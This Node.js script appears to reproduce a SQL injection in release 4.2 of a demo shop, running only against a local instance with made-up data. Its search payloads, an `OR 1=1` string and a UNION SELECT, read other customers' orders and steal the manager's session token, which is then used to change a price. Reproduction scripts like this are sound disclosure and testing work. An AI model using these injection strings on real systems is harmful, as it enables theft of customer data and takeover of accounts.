// Proves the SQL injection of release 4.2 on a shop with made-up data, here on this machine, and ends.
// Run it as `node examples/shop/reproduce.mjs`. Exit code 0: reproduced, 1: not.
import { spawnSync } from 'node:child_process'
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

const folder = import.meta.dirname
if (!existsSync(join(folder, 'node_modules', 'handlebars'))) install()

const { openDatabase } = await import('./src/database.js')
const { createShop } = await import('./src/server.js')
const { version } = JSON.parse(readFileSync(join(folder, 'package.json'), 'utf8'))

const shop = createShop(openDatabase())
await new Promise((listening) => shop.listen(0, '127.0.0.1', listening))
const address = `http://127.0.0.1:${shop.address().port}`
console.log(`Shop ${version} on ${address}, with made-up data\n`)
try {
  await reproduce()
  console.log('\nReproduced: any customer can read every order, and act as the shop manager.')
} catch (error) {
  console.log(`\nNot reproduced: ${error.message}`)
  process.exitCode = 1
} finally {
  shop.close()
  shop.closeAllConnections()
}

async function reproduce() {
  const account = { name: 'curious customer', password: 'a made-up password' }
  await post('/signup', account)
  const { token } = await post('/login', account)
  console.log('1. Sign up and log in, as anybody may.')

  await post('/orders', { product: 1, address: '3 Example Street' }, token)
  const own = await search('tea', token)
  expect(own.length === 1, `an honest search finds ${own.length} orders, not our one`)
  console.log('2. Order green tea and search for "tea": 1 order, our own.')

  const everything = `%' OR 1=1 --`
  const foreign = (await search(everything, token)).filter(({ customer }) => customer !== own[0].customer)
  expect(foreign.length > 0, 'the search returns no order of another customer')
  console.log(`3. Search for "${everything}": ${foreign.length} orders of other customers.`)
  for (const { items, address } of foreign) console.log(`     ${items}, to ${address}`)

  const sessions = `%' AND 0 UNION SELECT 0, role, token, name, 0 FROM sessions JOIN customers ON id = customer --`
  const manager = (await search(sessions, token)).find(({ customer }) => customer === 'manager')
  expect(manager, 'the search returns no session')
  console.log(`4. Search for "${sessions}":\n     the session of the ${manager.address}.`)

  const prices = await post('/products/price', { product: 2, cents: 1 }, manager.items)
  expect(prices[1].cents === 1, 'the price stays as it is')
  console.log('5. With that session, set the price of a tea pot: 0.01 EUR instead of 39.00.')
}

function search(word, token) {
  return ask(`/orders/search?${new URLSearchParams({ q: word })}`, { token })
}

function post(path, body, token) {
  return ask(path, { method: 'POST', body: JSON.stringify(body), token })
}

async function ask(path, { token, ...request }) {
  const reply = await fetch(address + path, { ...request, headers: { authorization: `Bearer ${token}` } })
  expect(reply.ok, `${path} answers ${reply.status}`)
  return reply.json()
}

function expect(truth, otherwise) {
  if (!truth) throw new Error(otherwise)
}

function install() {
  const args = ['ci', '--omit=optional', '--ignore-scripts', '--no-audit', '--no-fund', '--loglevel=error']
  // On Windows npm is a command file, which only a shell starts.
  const { status } = spawnSync('npm', args, {
    cwd: folder,
    stdio: ['ignore', 'ignore', 'inherit'],
    shell: process.platform === 'win32',
  })
  if (status !== 0) throw new Error('npm could not install the one dependency of the shop; see above.')
}
